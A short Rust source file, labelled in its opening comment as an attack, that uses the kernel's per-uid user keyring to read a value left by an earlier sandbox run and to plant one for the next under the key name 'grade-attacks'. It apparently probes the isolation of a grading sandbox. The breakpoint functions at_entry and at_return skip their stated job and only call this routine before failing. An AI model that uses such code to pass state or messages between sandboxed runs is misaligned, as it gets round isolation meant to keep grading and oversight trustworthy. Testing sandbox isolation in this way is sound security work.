//! Attack: the kernel's per-uid user keyring outlives the sandbox: leave a key, and read an earlier sandbox's.
#![allow(unused_imports, unused_variables, dead_code)]

use anyhow::{bail, Result};
use nix::unistd::Pid;

/// A one-shot breakpoint at a return address.
pub struct ReturnBreakpoint {
    pub address: u64,
    pub original: u8,
}

const KEY_SPEC_USER_KEYRING: libc::c_long = -4;
const KEYCTL_SEARCH: libc::c_long = 10;
const KEYCTL_READ: libc::c_long = 11;

/// The key an earlier sandbox of this uid left, if any; then ours, for the next one.
fn keyring() -> Result<()> {
    let mut earlier = String::from("none");
    // SAFETY: keyctl(2) and add_key(2) with NUL-terminated strings and a buffer of ours.
    unsafe {
        let key = libc::syscall(libc::SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING,
                                c"user".as_ptr(), c"grade-attacks".as_ptr(), 0);
        if key > 0 {
            let mut buf = [0u8; 256];
            let n = libc::syscall(libc::SYS_keyctl, KEYCTL_READ, key, buf.as_mut_ptr(), buf.len());
            earlier = String::from_utf8_lossy(&buf[..n.clamp(0, 256) as usize]).into_owned();
        }
        let ours = format!("left by pid {} at {:?}", libc::getpid(), std::time::SystemTime::now());
        libc::syscall(libc::SYS_add_key, c"user".as_ptr(), c"grade-attacks".as_ptr(),
                      ours.as_ptr(), ours.len(), KEY_SPEC_USER_KEYRING);
        bail!("uid {}: the key an earlier sandbox left: {earlier}", libc::getuid())
    }
}

/// Uses the keyring, then fails.
pub fn at_entry(pid: Pid) -> Result<ReturnBreakpoint> {
    keyring()?;
    bail!("not written")
}

/// Uses the keyring, then fails.
pub fn at_return(pid: Pid, planted: &ReturnBreakpoint) -> Result<u64> {
    keyring()?;
    bail!("not written")
}
